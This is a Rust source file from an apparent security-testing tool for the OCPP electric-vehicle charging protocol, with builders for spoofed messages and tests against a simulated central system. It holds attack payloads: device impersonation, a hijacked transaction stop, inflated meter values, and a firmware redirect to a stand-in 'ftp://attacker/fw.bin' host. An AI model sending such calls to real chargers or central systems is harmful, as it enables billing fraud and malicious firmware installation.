//! One-shot spoofed calls
//!
//! Hand-built calls injected over a raw stream, outside any session: no
//! correlation table, no dispatcher, just send and (maybe) collect one
//! reply. Useful for probing how a central system treats messages it never
//! solicited.

use std::time::Duration;

use serde_json::json;

use voltprobe_ocpp::{Call, MessageStream, OcppError, OcppMessage};

/// Boot as if we were a legitimate device of the given make
pub fn impersonation_boot(vendor: &str, model: &str) -> Result<Call, OcppError> {
    Call::boot_notification(vendor, model)
}

/// Stop a transaction we never started
pub fn transaction_hijack() -> Result<Call, OcppError> {
    Call::stop_transaction(999, 0, "RFID_123")
}

/// Meter readings for a transaction nobody opened
pub fn poisoned_meter_values() -> Result<Call, OcppError> {
    Call::meter_values(1, Some(999), 999_999_999)
}

/// Point the device at attacker-hosted firmware
pub fn firmware_redirect(location: &str) -> Result<Call, OcppError> {
    Call::new(
        "UpdateFirmware",
        json!({
            "location": location,
            "retrieveDate": "2030-01-01T00:00:00Z",
        }),
    )
}

/// Send one call and wait up to `reply_timeout` for whatever comes back.
/// `Ok(None)` means the peer stayed silent; transport errors are terminal.
pub async fn fire<S: MessageStream>(
    stream: &mut S,
    call: Call,
    reply_timeout: Duration,
) -> Result<Option<OcppMessage>, OcppError> {
    stream.send(OcppMessage::Call(call)).await?;
    match tokio::time::timeout(reply_timeout, stream.receive()).await {
        Ok(reply) => reply,
        Err(_) => Ok(None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use voltprobe_ocpp::{ChannelStream, Dispatcher, Session, SessionConfig};

    fn spawn_central_system() -> ChannelStream {
        let (attacker, csms_stream) = ChannelStream::pair(16);
        let config = SessionConfig::new("CSMS");
        let dispatcher =
            Dispatcher::central_system(config.allowed_tokens.clone(), config.heartbeat_interval);
        let (session, _handle) = Session::new(&config, csms_stream, dispatcher);
        tokio::spawn(session.run());
        attacker
    }

    #[tokio::test]
    async fn test_hijacked_stop_is_answered_not_crashed_on() {
        let mut stream = spawn_central_system();
        let call = transaction_hijack().unwrap();
        let id = call.unique_id.clone();

        let reply = fire(&mut stream, call, Duration::from_secs(1))
            .await
            .unwrap();
        match reply {
            Some(OcppMessage::CallResult(result)) => {
                assert_eq!(result.unique_id, id);
                assert_eq!(result.payload["idTagInfo"]["status"], "Invalid");
            }
            other => panic!("expected CallResult, got {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_impersonation_boot_is_accepted() {
        let mut stream = spawn_central_system();
        let call = impersonation_boot("GreenCharge", "Falcon").unwrap();

        let reply = fire(&mut stream, call, Duration::from_secs(1))
            .await
            .unwrap();
        match reply {
            Some(OcppMessage::CallResult(result)) => {
                assert_eq!(result.payload["status"], "Accepted");
            }
            other => panic!("expected CallResult, got {:?}", other),
        }
    }

    #[tokio::test]
    async fn test_silent_peer_yields_none() {
        let (mut attacker, _silent) = ChannelStream::pair(16);
        let reply = fire(
            &mut attacker,
            firmware_redirect("ftp://attacker/fw.bin").unwrap(),
            Duration::from_millis(50),
        )
        .await
        .unwrap();
        assert!(reply.is_none());
    }

    #[test]
    fn test_builders_shape_their_payloads() {
        let hijack = transaction_hijack().unwrap();
        assert_eq!(hijack.action, "StopTransaction");
        assert_eq!(hijack.payload["transactionId"], 999);
        assert_eq!(hijack.payload["idTag"], "RFID_123");

        let poisoned = poisoned_meter_values().unwrap();
        assert_eq!(poisoned.action, "MeterValues");
        assert_eq!(
            poisoned.payload["meterValue"][0]["sampledValue"][0]["value"],
            "999999999"
        );

        let fw = firmware_redirect("ftp://attacker/fw.bin").unwrap();
        assert_eq!(fw.action, "UpdateFirmware");
        assert_eq!(fw.payload["retrieveDate"], "2030-01-01T00:00:00Z");
    }
}
